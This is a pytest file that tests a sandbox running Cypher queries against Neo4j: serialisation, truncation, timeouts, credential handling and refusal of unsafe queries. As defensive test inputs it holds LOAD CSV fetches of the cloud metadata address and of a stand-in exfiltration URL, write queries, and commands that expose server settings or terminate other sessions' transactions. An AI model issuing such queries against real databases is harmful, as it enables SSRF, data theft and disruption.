"""The sandbox program against the real managed Neo4j (run on the host, direct Bolt URI).

The same code runs inside the container; here it is driven in-process and as a
subprocess so each behaviour is quick to check.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from gateway.connection import Neo4jConnection
from gateway.runner.contract import credentials_line, job_line, parse_result
from sandbox.bolt import BoltBackend
from sandbox.config import SandboxConfig
from sandbox.main import handle
from sandbox.serialize import encode
from sandbox.wire import TX_METADATA_QUERY_ID, SandboxResult, to_json
from tests.support.jobs import LIMITS, make_job

pytestmark = pytest.mark.neo4j2026  # runs on 5.26 and again on 2026.x


@pytest.fixture(scope="module")
def backend(neo4j_connection: Neo4jConnection) -> Iterator[BoltBackend]:
    config = SandboxConfig(
        neo4j_uri=neo4j_connection.uri,
        neo4j_user=neo4j_connection.user,
        neo4j_password=neo4j_connection.password.get_secret_value(),
        database=neo4j_connection.database,
    )
    b = BoltBackend(config)
    b.warm()
    assert b.warm_error is None, f"the sandbox backend could not reach Neo4j: {b.warm_error}"
    yield b
    b.close()


def run(backend: BoltBackend, cypher: str, **kw: Any) -> SandboxResult:
    return handle(to_json(make_job(cypher, **kw)).encode(), backend)


def test_types_are_serialized_faithfully(backend: BoltBackend) -> None:
    result = run(
        backend,
        """RETURN date('2024-02-29') AS d, time('12:30:00+01:00') AS t, localtime('08:00') AS lt,
                  datetime('2024-01-01T10:00:00[Europe/Stockholm]') AS dt, localdatetime('2024-01-01T10:00') AS ldt,
                  duration('P1Y2M3DT4H5M6.5S') AS du, point({x: 1, y: 2}) AS p2,
                  point({latitude: 59.3, longitude: 18.0, height: 10}) AS p3,
                  0.0/0.0 AS nan, {`$type`: 'node', x: 1} AS spoof, [1, 'two', null, true] AS l""",
    )
    assert result.ok, result.error
    row = dict(zip(result.columns, result.rows[0], strict=True))
    assert row["d"] == {"$type": "date", "iso": "2024-02-29"}
    assert row["t"]["$type"] == "time" and row["t"]["iso"].startswith("12:30:00")
    assert row["lt"]["$type"] == "localtime"
    assert row["dt"]["$type"] == "datetime" and row["dt"].get("zone") == "Europe/Stockholm"
    assert row["ldt"] == {"$type": "localdatetime", "iso": "2024-01-01T10:00:00.000000000"}
    assert row["du"]["$type"] == "duration" and row["du"]["months"] == 14 and row["du"]["days"] == 3
    assert row["du"]["seconds"] == 4 * 3600 + 5 * 60 + 6 and row["du"]["nanoseconds"] == 500_000_000
    assert row["p2"] == {"$type": "point", "srid": 7203, "x": 1.0, "y": 2.0}
    assert row["p3"]["srid"] == 4979 and row["p3"]["z"] == 10.0
    assert row["nan"] == {"$type": "float", "value": "nan"}
    # A user map cannot pass itself off as a node.
    assert row["spoof"] == {"$type": "map", "value": {"$type": "node", "x": 1}}
    assert row["l"] == [1, "two", None, True]
    assert result.query_type == "r"


def test_an_offset_with_seconds_arrives_cut_to_minutes_and_tostring_keeps_it(backend: BoltBackend) -> None:
    # What the rows' schema description tells agents: Neo4j's Python driver reads offsets in whole
    # minutes. If a driver release keeps the seconds, this fails and the description must change.
    made = "datetime({year: 2024, month: 1, day: 1, hour: 10, timezone: '+02:05:59'})"
    result = run(backend, f"WITH {made} AS d RETURN d, toString(d) AS s")
    assert result.ok, result.error
    value, text = result.rows[0]
    # The same instant: the offset cut to +02:05 and the local time moved by the 59 s it lost.
    assert value == {"$type": "datetime", "iso": "2024-01-01T09:59:01.000000000+02:05"}
    assert text == "2024-01-01T10:00:00+02:05:59"


def test_graph_values(backend: BoltBackend, seeded: str) -> None:
    result = run(backend, f"MATCH p = (a:{seeded} {{i: 1}})-[r:NEXT]->(b) RETURN a, r, p")
    assert result.ok, result.error
    node, rel, path = result.rows[0]
    assert node["$type"] == "node" and node["labels"] == [seeded] and node["properties"]["i"] == 1
    assert node["elementId"]
    assert rel["$type"] == "relationship" and rel["type"] == "NEXT" and rel["properties"] == {"w": 1}
    assert rel["startElementId"] == node["elementId"]
    assert path["$type"] == "path" and len(path["nodes"]) == 2 and len(path["relationships"]) == 1


def test_truncation_by_rows(backend: BoltBackend) -> None:
    result = run(backend, "UNWIND range(1, 1000) AS i RETURN i")
    assert result.ok
    assert result.row_count == LIMITS.max_rows == len(result.rows)
    assert result.truncated and result.truncation == "rows"
    assert result.bytes == len(encode(result.rows).encode())


def test_exactly_max_rows_is_not_truncated(backend: BoltBackend) -> None:
    result = run(backend, "UNWIND range(1, $n) AS i RETURN i", params={"n": LIMITS.max_rows})
    assert result.ok and result.row_count == LIMITS.max_rows and not result.truncated


def test_truncation_by_bytes(backend: BoltBackend) -> None:
    # Each row is ~10 KB: the byte limit comes before the row limit.
    result = run(
        backend, "UNWIND range(1, 100) AS i RETURN i, reduce(s = '', x IN range(1, 1000) | s + 'abcdefghij') AS s"
    )
    assert result.ok
    assert result.truncated and result.truncation == "bytes"
    assert 0 < result.row_count < LIMITS.max_rows
    assert result.bytes <= LIMITS.max_bytes
    assert result.bytes == len(encode(result.rows).encode())


def test_a_ten_megabyte_string_is_not_returned_or_copied(backend: BoltBackend) -> None:
    import tracemalloc

    size = 2**24  # 16.8 MB of one string value
    tracemalloc.start()
    result = run(backend, "WITH reduce(s = 'x', i IN range(1, 24) | s + s) AS big RETURN big, size(big) AS n")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.ok
    assert result.row_count == 0 and result.truncated and result.truncation == "bytes"
    # The driver holds the value (its bytes, then the string); nothing of ours encodes another copy.
    assert peak < 3 * size, f"peak {peak / 1e6:.1f} MB for a {size / 1e6:.1f} MB value"


def test_explain_check_rejects_writes_and_schema_commands(backend: BoltBackend) -> None:
    for cypher in (
        "CREATE (n:SbxPwned) RETURN n",
        "MATCH (n) SET n.pwned = true",
        "CREATE INDEX sbx_pwned IF NOT EXISTS FOR (n:SbxPwned) ON (n.x)",
    ):
        result = run(backend, cypher)
        assert not result.ok and result.error is not None
        assert result.error.code == "explain_rejected", (cypher, result.error)


def test_explain_check_enforces_the_procedure_allow_list(backend: BoltBackend) -> None:
    allowed = run(backend, "CALL db.labels() YIELD label RETURN count(label) AS c", procedures_allowed=["db.labels"])
    assert allowed.ok, allowed.error
    for cypher in (
        "CALL db.relationshipTypes() YIELD relationshipType RETURN relationshipType",
        "CALL db.`labels`() YIELD label RETURN label",
    ):
        result = run(backend, cypher, procedures_allowed=["db.propertyKeys"])
        assert result.error is not None and result.error.code == "explain_rejected", cypher
        assert "allow-list" in result.error.message


def test_read_mode_alone_refuses_a_write(backend: BoltBackend) -> None:
    result = run(backend, "CREATE (n:SbxPwned) RETURN n", explain_check=False)
    assert result.error is not None
    assert result.error.code == "neo4j_refused"
    assert result.error.neo4j_code == "Neo.ClientError.Statement.AccessMode"


def test_the_answer_is_complete_before_its_read_transaction_ends(backend: BoltBackend, neo4j_driver: Any) -> None:
    """The job's READ transaction is rolled back after the answer is written (it commits nothing)."""
    job = make_job("MATCH (n) RETURN count(n) AS c")
    result = handle(to_json(job).encode(), backend)
    assert result.ok and result.rows and result.row_count == 1

    def open_ones() -> list[Any]:
        records, _, _ = neo4j_driver.execute_query(
            f"SHOW TRANSACTIONS YIELD metaData, status WHERE metaData.{TX_METADATA_QUERY_ID} = $id RETURN status",
            {"id": job.query_id},
        )
        return [r["status"] for r in records]

    assert open_ones() == ["Running"]
    backend.end_transaction()
    assert open_ones() == []


def test_syntax_error_is_neo4j_refusing(backend: BoltBackend) -> None:
    result = run(backend, "MATCH (n RETURN n")
    assert result.error is not None and result.error.code == "neo4j_refused"
    assert result.error.neo4j_code == "Neo.ClientError.Statement.SyntaxError"


def test_timeout_is_reported_as_timeout(backend: BoltBackend) -> None:
    # A CPU-bound read far longer than the 1 s budget: Neo4j must terminate it.
    result = run(
        backend,
        "UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN count(*) AS c",
        timeout_seconds=1.0,
    )
    assert result.error is not None and result.error.code == "timeout", result.error
    assert result.duration_ms < 5000


def test_invalid_job_is_reported(backend: BoltBackend) -> None:
    result = handle(b'{"query_id": "x", "cypher": "RETURN 1"}', backend)
    assert result.error is not None and result.error.code == "invalid_job"


def test_notifications_are_returned(backend: BoltBackend) -> None:
    result = run(backend, "MATCH (a:SbxNothing), (b:SbxNothing) RETURN count(*) AS c")
    assert result.ok
    identities = {(n.gql_status, n.code, n.classification) for n in result.notifications}
    assert ("03N90", "Neo.ClientNotification.Statement.CartesianProduct", "PERFORMANCE") in identities


def program(env: dict[str, str], stdin: bytes) -> subprocess.CompletedProcess[bytes]:
    """The sandbox program as the container runs it, fed ``stdin`` (its account line first)."""
    return subprocess.run(
        [sys.executable, "-m", "sandbox.main"], input=stdin, capture_output=True, env=env, timeout=120
    )


def test_the_program_end_to_end_as_a_subprocess(bolt_env: dict[str, str], neo4j_connection: Neo4jConnection) -> None:
    job = make_job("UNWIND range(1, 3) AS i RETURN i")
    # The account arrives on stdin: the environment holds no password at all.
    assert neo4j_connection.password.get_secret_value() not in "".join(bolt_env.values())
    proc = program(
        bolt_env, credentials_line(neo4j_connection.user, neo4j_connection.password.get_secret_value()) + job_line(job)
    )
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert len(lines) == 1, "stdout must hold exactly one result line"
    result = parse_result(lines[0])
    assert result.ok and result.rows == [[1], [2], [3]] and result.query_id == job.query_id
    assert proc.stderr.count(b"sandbox: ready") == 1
    assert neo4j_connection.password.get_secret_value().encode() not in proc.stderr + proc.stdout


def test_each_job_of_a_reused_program_runs_in_its_own_process(
    bolt_env: dict[str, str], neo4j_connection: Neo4jConnection
) -> None:
    jobs = [make_job("RETURN 1 AS x"), make_job("RETURN $x AS x", params={"x": 2}), make_job("RETURN 3 AS x")]
    account = credentials_line(neo4j_connection.user, neo4j_connection.password.get_secret_value())
    env = {**bolt_env, "CGW_MAX_JOBS": "3"}
    # Every job waits for the previous one's answer, as the runner does.
    process = subprocess.Popen([sys.executable, "-m", "sandbox.main"], stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)  # fmt: skip
    assert process.stdin is not None and process.stdout is not None
    try:
        process.stdin.write(account)
        answers = []
        for job in jobs:
            process.stdin.write(job_line(job))
            process.stdin.flush()
            answers.append(parse_result(process.stdout.readline()))
        process.stdin.close()
        assert process.wait(timeout=60) == 0
    finally:
        process.kill()
    assert [a.rows for a in answers] == [[[1]], [[2]], [[3]]]
    assert [a.query_id for a in answers] == [j.query_id for j in jobs]
    # One ready line per job process: each connected and authenticated on its own.
    assert process.stderr is not None and process.stderr.read().count(b"sandbox: ready") == 3


def test_neo4j_unreachable_is_unavailable(bolt_env: dict[str, str], neo4j_connection: Neo4jConnection) -> None:
    env = {**bolt_env, "CGW_NEO4J_URI": "bolt://127.0.0.1:1"}
    proc = program(env, credentials_line(neo4j_connection.user, "pw") + job_line(make_job("RETURN 1")))
    result = parse_result(proc.stdout.strip())
    assert result.error is not None and result.error.code == "unavailable"
    assert not result.rows


def test_without_its_account_line_the_program_answers_misconfigured(bolt_env: dict[str, str]) -> None:
    for stdin in (b"", b'{"user": "neo4j"}\n', b"not json\n"):
        proc = program(bolt_env, stdin)
        assert proc.returncode == 2, proc.stderr
        result = parse_result(proc.stdout.strip())
        assert result.error is not None and result.error.code == "internal"
        assert "sandbox misconfigured" in result.error.message


def test_explain_check_refuses_load_csv(backend: BoltBackend) -> None:
    # LOAD CSV is a read (query type "r") yet Neo4j fetches the URL itself: SSRF and exfiltration.
    for url in ("http://169.254.169.254/latest/meta-data/", "https://x.example/?d=secret"):
        result = run(backend, f"LOAD CSV FROM '{url}' AS line RETURN line")
        assert result.error is not None and result.error.code == "explain_rejected", result.error
        assert "LoadCSV" in result.error.message


def test_scope_layer_two_runs_in_the_sandbox(backend: BoltBackend, seeded: str) -> None:
    from sandbox.wire import ScopeCheck

    cypher = f"MATCH (n:{seeded}) WHERE n.i <= 3 RETURN n ORDER BY n.i"
    visible = run(backend, cypher, scope=ScopeCheck(layers_property="layers", layers=["public"]))
    assert visible.ok and visible.row_count == 3 and visible.redacted == 0
    hidden = run(backend, cypher, scope=ScopeCheck(layers_property="layers", layers=["team-x"]))
    assert hidden.ok and hidden.rows == [] and hidden.row_count == 0 and hidden.redacted == 3
    assert hidden.bytes == len(encode(hidden.rows).encode())


def test_explain_check_refuses_commands_that_neo4j_types_as_reads(backend: BoltBackend) -> None:
    # Neo4j 5.26 gives these query type "r", and READ mode runs them: SHOW SETTINGS leaks the
    # server's configuration, SHOW TRANSACTIONS other sessions' queries and parameters, and
    # TERMINATE TRANSACTIONS kills them. The plan's operators are what give them away.
    for cypher in ("SHOW SETTINGS", "SHOW TRANSACTIONS", "SHOW PROCEDURES", "SHOW FUNCTIONS", "SHOW INDEXES",
                   "SHOW CONSTRAINTS", "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "SHOW DATABASES"):  # fmt: skip
        # Recorded, not wished for: READ mode alone lets every one of these run.
        assert run(backend, cypher, explain_check=False).ok, cypher
        result = run(backend, cypher)
        assert result.error is not None and result.error.code == "explain_rejected", (cypher, result.error)
